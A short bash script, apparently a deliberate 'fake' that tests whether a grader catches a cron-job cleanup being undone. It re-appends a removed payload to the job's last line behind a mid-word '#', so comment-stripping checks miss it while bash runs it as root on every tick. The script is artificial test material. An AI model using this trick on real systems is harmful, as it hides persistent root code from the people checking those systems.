#!/bin/bash
# Fake, after the reference fix (which keeps the job in $answer_job and the payload line it
# removed in $payload), then put the payload back at the end of the job's last
# line behind a '#' in the middle of a word: a comparison that drops everything after '#' sees the
# script as installed, bash sees text, a ';' and the payload, run as root at every tick.
[ -n "$answer_job" ] && [ -n "$payload" ] || { echo "no payload found"; exit 1; }
sed -i '$ s/$/#;'"$(printf '%s' "$payload" | sed 's/[&/\\]/\\&/g')"'/' "$answer_job"
tail -1 "$answer_job"
